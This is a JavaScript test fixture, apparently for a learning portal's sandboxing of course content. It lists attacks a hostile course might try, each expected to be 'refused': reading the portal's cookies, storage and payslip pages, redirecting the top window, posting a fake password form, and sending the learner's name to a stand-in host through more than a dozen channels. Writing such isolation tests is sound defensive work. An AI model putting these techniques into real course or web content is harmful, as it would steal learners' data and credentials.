// What a course might try. Each attempt says what it got; "refused" is what it is to get. `portal` and `elsewhere` are origins, `other` is
// the host of another course.
window.attempts = {
  cookies: () => document.cookie || 'refused',
  "the portal's page": () => window.top.document.body.innerHTML,
  "the portal's cookies": () => window.top.document.cookie,
  "the portal's storage": () => window.top.localStorage.length,
  "the portal's databases": () => window.top.indexedDB.databases(),
  'a page of the portal, as the person': ({ portal }) => fetch(`${portal}/payslips`, { credentials: 'include' }).then((answer) => answer.text()),
  'a page of the portal, unseen': ({ portal }) => fetch(`${portal}/payslips`, { mode: 'no-cors', credentials: 'include' }).then(() => 'sent'),
  'a page of the portal in a frame': ({ portal }) => framed(`${portal}/payslips`),
  'a form of the portal': ({ portal }) => submitted(`${portal}/log-out`, '_self'),
  "another course's page in a frame": ({ other }) => framed(`${other}/launch/x/course/index.html`),
  "another course's storage": ({ other }) => fetch(`${other}/launch/x/begin`, { method: 'POST' }).then(() => 'sent'),
  'to lead the portal away': ({ elsewhere }) => ((window.top.location.href = `${elsewhere}/top`), 'led'),
  'to lead the portal away by a link': ({ elsewhere }) => clicked(`${elsewhere}/link`, '_top'),
  'to lead the portal away by a form': ({ elsewhere }) => submitted(`${elsewhere}/form`, '_top'),
  'a window of its own': ({ elsewhere }) => (window.open(`${elsewhere}/window`) ? 'opened' : 'refused'),
  'a log-in form sent elsewhere': ({ elsewhere }) => submitted(`${elsewhere}/password`, '_self'),
  'names by fetch': ({ elsewhere }) => fetch(`${elsewhere}/fetch?${name()}`, { mode: 'no-cors' }).then(() => 'sent'),
  'names by beacon': ({ elsewhere }) => (navigator.sendBeacon(`${elsewhere}/beacon`, name()), waited()),
  'names by a picture': ({ elsewhere }) => loaded(new Image(), `${elsewhere}/picture?${name()}`),
  'names by a script': ({ elsewhere }) => loaded(document.head.appendChild(document.createElement('script')), `${elsewhere}/script?${name()}`),
  'names by a style sheet': ({ elsewhere }) => {
    const link = document.head.appendChild(document.createElement('link'));
    link.rel = 'stylesheet';
    return loaded(link, `${elsewhere}/style?${name()}`, 'href');
  },
  'names by a prefetch': ({ elsewhere }) => {
    const link = document.head.appendChild(document.createElement('link'));
    link.rel = 'prefetch';
    link.href = `${elsewhere}/prefetch?${name()}`;
    return waited();
  },
  'names by a socket': ({ elsewhere }) =>
    new Promise((settle) => {
      const socket = new WebSocket(`${elsewhere.replace('http', 'ws')}/socket?${name()}`);
      socket.onopen = () => settle('sent');
      socket.onerror = () => settle('refused');
    }),
  'names by events': ({ elsewhere }) =>
    new Promise((settle) => {
      const source = new EventSource(`${elsewhere}/events?${name()}`);
      source.onopen = () => settle('sent');
      source.onerror = () => (source.close(), settle('refused'));
    }),
  'names by a frame': ({ elsewhere }) => framed(`${elsewhere}/frame?${name()}`),
  'names by a worker': ({ elsewhere }) => {
    const code = `fetch(${JSON.stringify(`${elsewhere}/worker`)}, { mode: "no-cors" }).then(() => postMessage("sent"), () => postMessage("refused"))`;
    return new Promise((settle) => {
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = ({ data }) => settle(data);
      worker.onerror = () => settle('refused');
    });
  },
  'names by WebRTC': async ({ stun }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: stun, username: name(), credential: 'x' }] });
    connection.createDataChannel('names');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((settle) => setTimeout(settle, 1000));
    connection.close();
    return 'refused';
  },
  'the microphone': () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'heard'),
  'where the person is': () =>
    new Promise((settle) => navigator.geolocation.getCurrentPosition(() => settle('found'), () => settle('refused'))),
  'what was copied': () => navigator.clipboard.readText(),
};

const name = () => encodeURIComponent(window.parent.API?.cmi.core.student_name ?? 'nobody');
const waited = () => new Promise((settle) => setTimeout(() => settle('refused'), 300));

window.attempt = async (what, where) => {
  try {
    return String(await window.attempts[what](where));
  } catch (error) {
    return error instanceof Error || error instanceof DOMException || error?.code ? 'refused' : String(error);
  }
};

function loaded(element, address, attribute = 'src') {
  return new Promise((settle) => {
    element.onload = () => settle('sent');
    element.onerror = () => settle('refused');
    element[attribute] = address;
  });
}

function framed(address) {
  const frame = document.getElementById('place').appendChild(document.createElement('iframe'));
  frame.src = address;
  return new Promise((settle) => {
    frame.onload = () => {
      try {
        settle(frame.contentDocument?.body.textContent || 'refused');
      } catch {
        settle('refused');
      }
    };
    setTimeout(() => settle('refused'), 500);
  });
}

function submitted(address, target) {
  const form = document.getElementById('place').appendChild(document.createElement('form'));
  Object.assign(form, { action: address, method: 'post', target });
  form.innerHTML = '<label>Password <input name="password" value="secret"></label>';
  form.submit();
  return waited();
}

function clicked(address, target) {
  const link = document.getElementById('place').appendChild(document.createElement('a'));
  Object.assign(link, { href: address, target, textContent: 'Here' });
  link.click();
  return waited();
}
